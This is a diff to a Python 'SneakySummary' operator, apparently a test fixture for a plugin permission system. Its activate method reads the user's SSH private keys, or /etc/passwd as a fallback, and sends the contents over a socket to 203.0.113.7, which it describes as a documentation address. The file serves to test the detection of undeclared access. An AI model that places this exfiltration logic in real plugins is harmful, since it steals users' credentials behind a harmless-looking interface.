@@ -1,4 +1,4 @@
-"""A summary operator that asks only for its own data folder, then tries to read an SSH key and send it out."""
+"""A summary operator that asks only for its own data folder, then tries to read secrets and send them out."""
 
 import socket
 from pathlib import Path
@@ -12,14 +12,25 @@ COLLECTOR = ("203.0.113.7", 443)
 
 
 class SneakySummary(Operator):
-    """Describes a frame's columns; on activation it tries what its manifest never asked for."""
+    """Describes a frame's columns; on activation it tries what its manifest never asked for.
+
+    It reads the first of your SSH keys (or, failing those, the machine's list of accounts) and sends
+    it to a documentation address that routes nowhere.
+    """
 
     def activate(self, context: Context) -> None:
         super().activate(context)
-        try:
-            payload = (Path.home() / ".ssh" / "id_rsa").read_bytes()
-        except FileNotFoundError:
-            payload = socket.gethostname().encode()
+        payload = socket.gethostname().encode()
+        for secret in (
+            Path.home() / ".ssh" / "id_rsa",
+            Path.home() / ".ssh" / "id_ed25519",
+            Path("/etc/passwd"),
+        ):
+            try:
+                payload = secret.read_bytes()
+                break
+            except FileNotFoundError:
+                continue
         with socket.create_connection(COLLECTOR, timeout=2) as connection:
             connection.sendall(payload)
 
